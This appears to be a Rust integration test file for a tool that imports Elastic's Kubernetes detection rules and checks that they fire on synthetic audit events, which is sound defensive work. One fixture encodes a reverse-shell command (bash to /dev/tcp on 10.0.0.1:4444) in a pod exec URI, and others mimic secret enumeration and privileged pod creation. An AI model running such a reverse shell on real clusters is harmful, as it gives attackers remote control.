//! `k8scop import elastic` on Elastic's Kubernetes detection rules (read from ../shared/data,
//! never copied: Elastic License 2.0), then `check` and `test-rule` on what it wrote.

use std::path::{Path, PathBuf};

use crate::util::{arg, k8scop, k8scop_stdin, rules_dir, shared_data};

/// Imports Elastic's 45 rules into a fresh directory: its report, and the directory.
fn import_elastic() -> Option<(serde_json::Value, PathBuf)> {
    let data = shared_data()?;
    let out = rules_dir(&[]);
    let run = k8scop(&[
        "import",
        "elastic",
        arg(&data.join("elastic-k8s-rules")),
        "--out",
        arg(&out),
        "--format",
        "json",
    ]);
    // Some rules are EQL and ES|QL, which are skipped: exit status 1.
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    Some((run.json(), out))
}

/// Every KQL rule (`language = "kuery"`: the `query` and `new_terms` rules) and every EQL rule
/// imports, and every ES|QL rule but those with several conditions on their `STATS`, which say
/// so.
#[test]
fn every_kql_and_eql_rule_imports_and_the_others_say_why() {
    let Some((report, out)) = import_elastic() else {
        return;
    };
    let data = shared_data().expect("checked above");
    let mut esql = std::collections::BTreeSet::new();
    for entry in std::fs::read_dir(data.join("elastic-k8s-rules")).expect("the rules") {
        let path = entry.expect("an entry").path();
        if path.extension().is_some_and(|e| e == "toml") {
            let text = std::fs::read_to_string(&path).expect("readable");
            if text.contains("language = \"esql\"") {
                esql.insert(path.display().to_string());
            }
        }
    }
    let rules = report["rules"].as_array().expect("rules");
    assert_eq!(rules.len(), 45, "{report:#}");
    assert_eq!(esql.len(), 11);
    let skipped: Vec<&serde_json::Value> =
        rules.iter().filter(|r| r["imported"].is_null()).collect();
    assert_eq!(skipped.len(), 2, "{report:#}");
    for r in &skipped {
        let reason = r["skipped"].as_str().unwrap_or("");
        assert!(
            reason.starts_with("a condition on the `STATS` other than one comparison"),
            "{r}"
        );
        assert!(esql.contains(r["file"].as_str().unwrap_or("")), "{r}");
    }
    let kuery = rules.len() - skipped.len();
    assert_eq!(report["errors"].as_array().map(Vec::len), Some(0));
    assert_eq!(report["files"].as_array().map(Vec::len), Some(kuery));
    // What was written loads: no errors, and the warnings are two flaws of the Elastic rules:
    // a field no binding has (a pod's, read on role bindings) and an audit level that does not
    // exist (a stage's name); neither part ever matches in Elastic either.
    let run = k8scop(&["check", arg(&out), "--format", "json"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let checked = run.json();
    assert_eq!(checked["errors"], 0, "{checked:#}");
    // The EQL sequence is a sequence, the others rules.
    assert_eq!(checked["sequences"], 1, "{checked:#}");
    assert_eq!(checked["rules"], kuery - 1, "{checked:#}");
    let mut warnings: Vec<&str> = checked["diagnostics"]
        .as_array()
        .expect("diagnostics")
        .iter()
        .filter_map(|d| d["message"].as_str())
        .collect();
    warnings.sort_unstable();
    assert_eq!(
        warnings,
        [
            "`level` is never `ResponseComplete`",
            "unknown field `requestObject.spec.serviceAccountName`"
        ],
        "{checked:#}"
    );
}

/// The events' ids (`auditID/stage`) each rule's alerts hold, by rule name.
fn fired(rules: &Path, events: &[String]) -> std::collections::BTreeMap<String, Vec<String>> {
    let run = k8scop_stdin(
        &["test-rule", arg(rules), "--events", "-", "--format", "json"],
        Some(&events.join("\n")),
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    let mut out = std::collections::BTreeMap::<String, Vec<String>>::new();
    for alert in report["alerts"].as_array().expect("alerts") {
        let rule = alert["k8scop"]["rule"].as_str().expect("a rule").to_owned();
        for sample in alert["k8scop"]["samples"].as_array().expect("samples") {
            let id = sample["id"].as_str().expect("an id");
            let id = id.split('/').next().unwrap_or(id).to_owned();
            out.entry(rule.clone()).or_default().push(id);
        }
    }
    out
}

/// A raw audit event.
fn raw(id: &str, second: u32, fields: serde_json::Value) -> serde_json::Value {
    let mut event = serde_json::json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": id,
        "stage": "ResponseComplete",
        "requestReceivedTimestamp": format!("2024-05-01T12:00:{second:02}Z"),
    });
    for (k, v) in fields.as_object().expect("an object") {
        event[k] = v.clone();
    }
    event
}

/// The same event as Elastic Agent indexes it: nested under `kubernetes.audit`, with `_` for
/// `.` in annotation keys and the ECS copies next to it.
fn elastic_agent(mut event: serde_json::Value) -> serde_json::Value {
    if let Some(annotations) = event["annotations"].as_object().cloned() {
        event["annotations"] = annotations
            .into_iter()
            .map(|(k, v)| (k.replace('.', "_"), v))
            .collect();
    }
    let mut document = serde_json::json!({
        "@timestamp": event["requestReceivedTimestamp"],
        "data_stream": {"dataset": "kubernetes.audit_logs"},
        "event": {"action": event["verb"]},
    });
    // The pipeline copies a value only when there is one (`ignore_empty_value`).
    let present = |v: &serde_json::Value| v.as_str().is_some_and(|s| !s.is_empty());
    if present(&event["user"]["username"]) {
        document["user"] = serde_json::json!({"name": event["user"]["username"]});
    }
    if present(&event["userAgent"]) {
        document["user_agent"] = serde_json::json!({"original": event["userAgent"]});
    }
    document["kubernetes"] = serde_json::json!({"audit": event});
    document
}

/// The imported rules fire on raw audit events and on Elastic Agent's documents alike, keep
/// the rules' exceptions, and a new terms rule fires at the first value of its field only.
#[test]
fn imported_rules_fire_on_raw_and_elastic_agent_events() {
    let Some((_, out)) = import_elastic() else {
        return;
    };
    let pod = |id: &str, second: u32, image: &str| {
        raw(
            id,
            second,
            serde_json::json!({
                "verb": "create", "user": {"username": "mallory"},
                "objectRef": {"resource": "pods", "namespace": "web", "name": id},
                "requestObject": {"spec": {"hostPID": true, "containers": [{"name": "c", "image": image}]}},
                "annotations": {"authorization.k8s.io/decision": "allow"},
            }),
        )
    };
    let denied = |id: &str, second: u32, agent: &str| {
        raw(
            id,
            second,
            serde_json::json!({
                "verb": "list", "user": {"username": "system:serviceaccount:web:default"},
                "objectRef": {"resource": "secrets", "namespace": "web"},
                "userAgent": agent,
                "annotations": {"authorization.k8s.io/decision": "forbid"},
            }),
        )
    };
    let rbac = |id: &str, second: u32, user: &str, resource: &str| {
        raw(
            id,
            second,
            serde_json::json!({
                "verb": "create", "user": {"username": user, "groups": ["system:authenticated"]},
                "objectRef": {"resource": resource, "namespace": "web", "name": id},
                "annotations": {"authorization.k8s.io/decision": "allow"},
            }),
        )
    };
    let secret = |id: &str, second: u32, name: &str| {
        raw(
            id,
            second,
            serde_json::json!({
                "verb": "get", "user": {"username": "eve"}, "sourceIPs": ["10.1.2.3"],
                "userAgent": "curl/8.5.0",
                "objectRef": {"resource": "secrets", "namespace": "web", "name": name},
                "annotations": {"authorization.k8s.io/decision": "allow"},
            }),
        )
    };
    let exec = |id: &str, second: u32, command: &str| {
        raw(
            id,
            second,
            serde_json::json!({
                "verb": "create", "user": {"username": "eve"}, "level": "Request",
                "requestURI": format!("/api/v1/namespaces/web/pods/api-0/exec?command=sh&command=-c&command={command}&container=api&stdin=true"),
                "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "web", "name": "api-0"},
                "annotations": {"authorization.k8s.io/decision": "allow"},
            }),
        )
    };
    let sa_read = |id: &str, second: u32, user: &str, pod: &str| {
        raw(
            id,
            second,
            serde_json::json!({
                "verb": "get", "sourceIPs": ["10.0.0.7"],
                "user": {"username": user, "groups": ["system:serviceaccounts"],
                         "extra": {"authentication.kubernetes.io/pod-name": [pod]}},
                "objectRef": {"resource": "secrets", "namespace": "web", "name": "db"},
                "annotations": {"authorization.k8s.io/decision": "allow"},
            }),
        )
    };
    let events = [
        pod("raw-pod", 0, "alpine"),
        elastic_agent(pod("agent-pod", 1, "alpine")),
        pod(
            "excepted-pod",
            2,
            "docker.elastic.co/beats/elastic-agent:8.4.0",
        ),
        denied("curl-1", 3, "curl/8.5.0"),
        elastic_agent(denied("curl-2", 4, "curl/8.5.0")),
        denied("wget-1", 5, "Wget/1.21"),
        // The rule leaves out the clients built without a version, whose agent ends so.
        denied(
            "kubectl",
            6,
            "kubectl/v0.0.0 (linux/amd64) kubernetes/$Format",
        ),
        // An EQL sequence: a role, then a workload by the same user within 5 minutes.
        rbac("role", 10, "mallory", "roles"),
        rbac("other-deploy", 11, "bob", "deployments"),
        elastic_agent(rbac("deploy", 12, "mallory", "deployments")),
        // An ES|QL `STATS COUNT_DISTINCT(name) ... | WHERE ... >= 3`: three secrets by one client.
        secret("s1", 20, "a"),
        secret("s2", 21, "a"),
        secret("s3", 22, "b"),
        secret("s4", 23, "c"),
        // ES|QL's exec command, taken from the request URI: a reverse shell, and a health check.
        exec(
            "shell",
            30,
            "bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444+0%3E%261",
        ),
        exec("health", 31, "cat+%3C+%2Fdev%2Ftcp%2Flocalhost%2F8080"),
        // A key of `user.extra` with dots in it: the trivy operator's pod is left out.
        sa_read("sa-read", 40, "system:serviceaccount:web:default", "api-0"),
        elastic_agent(sa_read(
            "trivy",
            41,
            "system:serviceaccount:security:trivy-operator",
            "trivy-operator-5d8f",
        )),
    ]
    .map(|e| e.to_string());
    let fired = fired(&out, &events);
    assert_eq!(
        fired.get("kubernetes_pod_created_with_hostpid"),
        Some(&vec!["raw-pod".to_owned(), "agent-pod".to_owned()]),
        "{fired:#?}"
    );
    // A new terms rule: the first request of each user agent in the history window.
    assert_eq!(
        fired.get("kubernetes_denied_service_account_request_via_unusual_user_agent"),
        Some(&vec!["curl-1".to_owned(), "wget-1".to_owned()]),
        "{fired:#?}"
    );
    assert_eq!(
        fired.get("kubernetes_sensitive_rbac_change_followed_by_workload_modification"),
        Some(&vec!["deploy".to_owned()]),
        "{fired:#?}"
    );
    assert_eq!(
        fired.get("kubernetes_rapid_secret_get_activity_against_multiple_objects"),
        Some(&vec!["s4".to_owned()]),
        "{fired:#?}"
    );
    assert_eq!(
        fired.get("kubernetes_pod_exec_potential_reverse_shell"),
        Some(&vec!["shell".to_owned()]),
        "{fired:#?}"
    );
    assert_eq!(
        fired.get("kubernetes_secret_get_or_list_from_node_or_pod_service_account"),
        Some(&vec!["sa-read".to_owned()]),
        "{fired:#?}"
    );
}
